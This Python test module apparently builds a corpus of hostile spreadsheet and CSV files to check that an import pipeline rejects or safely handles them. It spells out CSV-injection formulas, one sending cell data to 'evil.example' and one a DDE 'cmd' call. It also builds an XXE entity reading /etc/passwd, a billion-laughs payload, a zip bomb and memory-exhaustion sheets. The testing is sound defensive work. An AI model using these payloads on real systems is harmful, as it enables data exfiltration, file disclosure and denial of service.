"""The hostile corpus: ledger files made to break an import, each with the answer every entry
point (the command line, the web wizard, the worker) must give: an error code, or a clean
import. Built at test time (`build`), so the repository holds their recipes, not their bytes;
the zip bomb unpacks to about 225 MB.

The workbooks are written by hand (`workbook`): a grid-layout header, rows of the small test
district (`wangge.areas.tests.factories`), inline strings (a string beginning with `=` stays a
string: openpyxl would write it as a formula), and whatever the attack needs around them.
"""

import random
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

from wangge.ledgers.tests.factories import GRID_HEADER, grid_row, write_csv

# Names a spreadsheet program would run as formulas (OWASP "CSV injection").
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
]
# Names with bidirectional controls (U+202E RIGHT-TO-LEFT OVERRIDE and friends).
BIDI_NAMES = ["\u202e王小明", "李\u202e四", "\u2066赵六\u2069"]
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "%s</Types>"
)
SHARED_STRINGS_TYPE = (
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/>%s</Relationships>'
)
SHARED_STRINGS_REL = (
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'sharedStrings" Target="sharedStrings.xml"/>'
)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XXE = '<!DOCTYPE root [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    + "]>"
)


def column_letters(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(ord("A") + rest) + letters
    return letters


def _cell(ref: str, value: Any) -> str:
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(
    rows: Sequence[Sequence[Any]], *, extra_cells: Sequence[tuple[str, Any]] = (), dimension: str = "", prolog: str = ""
) -> str:
    """A worksheet: the grid header in row 1, `rows` below it, then `extra_cells` (ref, value)
    in rows of their own; `dimension` declared if given, `prolog` before the root element."""
    lines = [[_cell(f"{column_letters(c)}1", v) for c, v in enumerate(GRID_HEADER, start=1)]]
    for row in rows:
        r = len(lines) + 1
        lines.append([_cell(f"{column_letters(c)}{r}", v) for c, v in enumerate(row, start=1) if v not in ("", None)])
    body = "".join(f'<row r="{r}">{"".join(cells)}</row>' for r, cells in enumerate(lines, start=1))
    for ref, value in extra_cells:
        body += f'<row r="{ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}">{_cell(ref, value)}</row>'
    declared = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="{MAIN}">{declared}<sheetData>{body}</sheetData></worksheet>'
    )


def workbook(path: Path, sheet: str, *, shared_strings: str = "", parts: dict[str, bytes] | None = None) -> Path:
    """An .xlsx file with one worksheet (`sheet`, its XML), optionally a shared-strings part and
    further parts (stored, not compressed)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES % (SHARED_STRINGS_TYPE if shared_strings else ""))
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS % (SHARED_STRINGS_REL if shared_strings else ""))
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared_strings:
            archive.writestr("xl/sharedStrings.xml", shared_strings)
        for name, data in (parts or {}).items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_STORED)
    return path


def _rows() -> list[list[Any]]:
    return [grid_row(name="孙大爷", birth="1950-01-02"), grid_row(room="201", name="钱多多", birth="2001-09-09")]


def far_cell(path: Path) -> Path:
    """A1 … and one cell at XFD1048576, the sheet's last: the reader allocates the whole area
    (2**34 cells, 512 GB) and aborts. No dimension declared, 1.7 KB."""
    return workbook(path, sheet_xml(_rows(), extra_cells=[("XFD1048576", "x")]))


def far_cell_declared(path: Path) -> Path:
    """The same, with the dimension declared as Excel writes it (refused before reading)."""
    return workbook(path, sheet_xml(_rows(), extra_cells=[("XFD1048576", "x")], dimension="A1:XFD1048576"))


def far_cell_large(path: Path) -> Path:
    """The far cell in a file of 600 KB (a stored part of random bytes): read by the import's
    helper process (`pipeline`), not by the small file's reader."""
    padding = random.Random(11).randbytes(600 * 1024)
    return workbook(
        path, sheet_xml(_rows(), extra_cells=[("XFD1048576", "x")]), parts={"xl/media/padding.bin": padding}
    )


def wide_area(path: Path) -> Path:
    """One cell at AX1000000: 50 million cells, 1.6 GB."""
    return workbook(path, sheet_xml(_rows(), extra_cells=[("AX1000000", "x")]))


def zip_bomb(path: Path) -> Path:
    """A 650 KB workbook whose sheet unpacks to 225 MB (340 times): five million cells at B2."""
    head, tail = sheet_xml(_rows()).split("</sheetData>")
    block = ('<row r="9"><c r="B9" t="inlineStr"><is><t>x</t></is></c></row>' * 20000).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES % "")
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS % "")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(head.encode())
            for _i in range(180):
                sheet.write(block)
            sheet.write(f"</sheetData>{tail}".encode())
    return path


def xxe(path: Path) -> Path:
    """An external entity in the sheet: the cell would hold /etc/passwd."""
    return workbook(path, sheet_xml(_rows(), prolog=XXE).replace("孙大爷", "&secret;"))


def xxe_in_shared_strings(path: Path) -> Path:
    """An external entity in the shared strings, which the sheet's name cell refers to."""
    sheet = sheet_xml(_rows()).replace(
        '<c r="F2" t="inlineStr"><is><t xml:space="preserve">孙大爷</t></is></c>', '<c r="F2" t="s"><v>0</v></c>'
    )
    strings = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{XXE}'
        f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>&secret;</t></si></sst>'
    )
    return workbook(path, sheet, shared_strings=strings)


def billion_laughs(path: Path) -> Path:
    """Nested entities: a billion "lol"s in one cell, from 1.7 KB."""
    return workbook(path, sheet_xml(_rows(), prolog=BILLION_LAUGHS).replace("孙大爷", "&lol9;"))


def formula_rows() -> list[list[Any]]:
    rows = [
        grid_row(room=room, name=name, birth=f"19{60 + i}-01-0{i + 1}")
        for i, (room, name) in enumerate(zip(["101", "201", "301", "101", "201"], FORMULA_NAMES, strict=True))
    ]
    rows[3][1] = "第2网格"
    rows[4][1] = "第2网格"
    # Rejected rows, so that the error report lists them (masked: "=" and asterisks).
    rows.append(grid_row(room="301", name=FORMULA_NAMES[0], birth="1990-02-30"))
    rows.append(grid_row(community="=cmd|' /C calc'!A0", name="丁", birth="1990-01-01"))
    return rows


def formula_names_xlsx(path: Path) -> Path:
    """Residents named like formulas, as strings in a workbook."""
    return workbook(path, sheet_xml(formula_rows()))


def formula_names_csv(path: Path) -> Path:
    """The same names in a CSV file."""
    return write_csv(path, formula_rows())


def bidi_names(path: Path) -> Path:
    """Names with right-to-left overrides and isolates."""
    return write_csv(
        path,
        [
            grid_row(room=room, name=name, birth="1980-01-01")
            for room, name in zip(["101", "201", "301"], BIDI_NAMES, strict=True)
        ],
    )


def gbk_broken(path: Path) -> Path:
    """A GBK file with bytes that are no GBK (nor UTF-8) in its second row."""
    write_csv(path, _rows(), encoding="gbk")
    path.write_bytes(path.read_bytes().replace("钱多多".encode("gbk"), b"\x81\x20\xff\xfe"))
    return path


def long_field(path: Path) -> Path:
    """A CSV field of 200,000 characters (the csv module's limit is 131,072)."""
    return write_csv(path, [grid_row(name="孙大爷", employer="某" * 200_000)])


@dataclass(frozen=True)
class Hostile:
    file_name: str  # its suffix decides how it is read
    build: Callable[[Path], Path]
    code: str | None  # what every entry point answers; None: imported cleanly
    new: int = 0  # persons a clean import creates

    def __str__(self) -> str:
        return self.file_name


CORPUS = [
    Hostile("far_cell.xlsx", far_cell, "file_too_large"),
    Hostile("far_cell_declared.xlsx", far_cell_declared, "file_too_large"),
    Hostile("far_cell_large.xlsx", far_cell_large, "file_too_large"),
    Hostile("wide_area.xlsx", wide_area, "file_too_large"),
    Hostile("zip_bomb.xlsx", zip_bomb, "file_too_large"),
    Hostile("xxe.xlsx", xxe, "file_unreadable"),
    Hostile("xxe_in_shared_strings.xlsx", xxe_in_shared_strings, "file_unreadable"),
    Hostile("billion_laughs.xlsx", billion_laughs, "file_unreadable"),
    Hostile("formula_names.xlsx", formula_names_xlsx, None, new=5),
    Hostile("formula_names.csv", formula_names_csv, None, new=5),
    Hostile("bidi_names.csv", bidi_names, None, new=3),
    Hostile("gbk_broken.csv", gbk_broken, "file_encoding"),
    Hostile("long_field.csv", long_field, "file_unreadable"),
]


def build(directory: Path) -> dict[str, Path]:
    """Every file of the corpus, written into `directory`."""
    directory.mkdir(parents=True, exist_ok=True)
    return {entry.file_name: entry.build(directory / entry.file_name) for entry in CORPUS}
